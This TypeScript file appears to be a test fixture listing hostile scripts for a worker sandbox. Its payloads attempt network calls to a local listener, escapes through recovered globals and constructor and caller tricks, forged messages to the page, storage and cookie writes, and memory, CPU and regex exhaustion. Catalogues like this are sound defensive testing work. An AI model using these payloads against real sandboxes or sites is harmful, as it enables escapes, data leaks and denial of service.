import { type HostileProgram, listener, stun, tried } from './hostile-program.ts';

const script = (name: string, tries: string, text: string): HostileProgram => ({
  name,
  tries,
  text,
});
const endless = (name: string, tries: string, text: string): HostileProgram => ({
  ...script(name, tries, text),
  isEndless: true,
});
/** Searches a worker for a global that was removed. */
const dug = (name: string) =>
  `const dig = (name) => { for (let o = globalThis; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, name); if (d) return d.value ?? d.get?.call(globalThis); } return (0, eval)('typeof ' + name) === 'undefined' ? undefined : (0, eval)(name); }; const found = dig('${name}');`;

/** Run in a worker. */
export const hostileScripts: HostileProgram[] = [
  script('fetch', 'the network', tried(`await fetch('${listener}fetch')`)),
  script('fetch dug out', 'the network', tried(`${dug('fetch')} await found('${listener}dug')`)),
  script(
    'XMLHttpRequest',
    'the network',
    tried(`const x = new XMLHttpRequest(); x.open('GET', '${listener}xhr'); x.send()`),
  ),
  script(
    'XMLHttpRequest dug out',
    'the network',
    tried(`${dug('XMLHttpRequest')} const x = new found(); x.open('GET', '${listener}xhr2'); x.send()`),
  ),
  script('WebSocket', 'the network', tried("new WebSocket('ws://127.0.0.1:4/ws')")),
  script('EventSource', 'the network', tried(`new EventSource('${listener}events')`)),
  script('WebTransport', 'the network', tried("new WebTransport('https://127.0.0.1:4/wt')")),
  script('importScripts', 'another script', tried(`importScripts('${listener}script.js')`)),
  script('import()', 'another script', tried(`await import('${listener}module.js')`)),
  script(
    'import() of data',
    'another script',
    tried(`await import('data:text/javascript,fetch("${listener}data")')`),
  ),
  script('sendBeacon', 'the network', tried(`navigator.sendBeacon('${listener}beacon', 'x')`)),
  script('WebRTC', 'the network', tried(`${dug('RTCPeerConnection')} ${stun('found')}`)),
  script(
    'the worker’s way out, dug out',
    'to flood the page',
    tried(`${dug('postMessage')} for (let i = 0; i < 100; i += 1) found({ print: 'forged'.repeat(10_000) })`),
  ),
  script(
    'import() of a blob',
    'another script',
    tried(
      `await import(URL.createObjectURL(new Blob(['fetch("${listener}blob")'], { type: 'text/javascript' })))`,
    ),
  ),
  script(
    'Function',
    'the globals by another way',
    tried(`Function('return this')().fetch('${listener}function')`),
  ),
  script(
    'constructor',
    'the globals by a constructor',
    tried(`console.log.constructor('return fetch')()('${listener}constructor')`),
  ),
  script(
    'prototype of the globals',
    'the globals by their prototype',
    tried(
      `Object.getPrototypeOf(globalThis).constructor.prototype.fetch.call(globalThis, '${listener}prototype')`,
    ),
  ),
  script(
    'the caller',
    'the engine’s own functions',
    tried(`const f = function () { return f.caller; }; f().constructor('fetch("${listener}caller")')()`),
  ),
  script(
    'call sites',
    'the engine’s own objects',
    tried(
      `Error.prepareStackTrace = (_, sites) => sites.map((site) => [site.getThis?.(), site.getFunction?.()]); for (const [self, call] of new Error().stack) { self?.postMessage?.('out'); call?.constructor?.('fetch("${listener}site")')(); }`,
    ),
  ),
  script(
    'postMessage',
    'the page around',
    tried("postMessage({ ended: { output: 'forged', error: null, stopped: null } })"),
  ),
  script(
    'a false port',
    'the engine’s way out',
    tried(
      "MessagePort.prototype.postMessage = function (m) { this.forged = m; }; new MessageChannel().port1.postMessage('x')",
    ),
  ),
  script('close', 'to end without a word', tried('close()')),
  script('localStorage', 'storage', tried("localStorage.setItem('stolen', '1')")),
  script('indexedDB', 'storage', tried("indexedDB.open('stolen')")),
  script('caches', 'storage', tried("await caches.open('stolen')")),
  script('cookieStore', 'cookies', tried("await cookieStore.set('stolen', '1')")),
  script('BroadcastChannel', 'other tabs', tried("new BroadcastChannel('lectern').postMessage('x')")),
  script('SharedWorker', 'another worker', tried(`new SharedWorker('${listener}shared.js')`)),
  endless(
    'workers without end',
    'to wear the machine out',
    "for (;;) new Worker(URL.createObjectURL(new Blob(['for(;;);'])));",
  ),
  script(
    'workers dug out',
    'to wear the machine out',
    tried(`${dug('Worker')} for (let i = 0; i < 100; i += 1) new found('data:text/javascript,for(;;);')`),
  ),
  script(
    'a worker of code',
    'another world',
    tried(`new ShadowRealm().evaluate("fetch('${listener}realm')")`),
  ),
  script(
    'setTimeout of a text',
    'code in another place',
    tried(`setTimeout('fetch("${listener}timeout")', 1)`),
  ),
  endless('endless loop', 'to wear the machine out', 'for (;;) {}'),
  endless('endless output', 'to flood the page', "for (;;) console.log('x'.repeat(1000));"),
  endless(
    'endless timers',
    'to wear the machine out',
    'const again = () => { setTimeout(again); setTimeout(again); }; again();',
  ),
  endless(
    'endless promises',
    'to wear the machine out',
    'const again = () => Promise.resolve().then(again); again();',
  ),
  endless(
    'a gigabyte at once',
    'to take all memory',
    'const all = new ArrayBuffer(2 ** 30); new Uint8Array(all).fill(1);',
  ),
  endless(
    'a gigabyte in pieces',
    'to take all memory',
    'const all = []; for (;;) all.push(new Uint8Array(2 ** 24).fill(1));',
  ),
  endless('a gigabyte of text', 'to take all memory', "let all = 'x'; for (;;) all += all;"),
  endless(
    'a gigabyte of objects',
    'to take all memory',
    'const all = []; for (;;) all.push({ all: [all.length] });',
  ),
  endless('endless recursion', 'to break the stack', 'const f = () => f() + f(); f();'),
  endless('an endless pattern', 'to wear the machine out', "/^(a+)+$/.test('a'.repeat(60) + 'b');"),
  script(
    'a value without end',
    'to flood the page',
    'const o = {}; o.o = o; console.log(o); throw { get message() { for (;;); } };',
  ),
  script(
    'changed prototypes',
    'to break what reads it',
    'Array.prototype.push = Array.prototype.map = Object.prototype.toString = () => { throw 1; }; JSON.stringify = () => \'{"forged":1}\'; console.log({ a: [1] });',
  ),
];
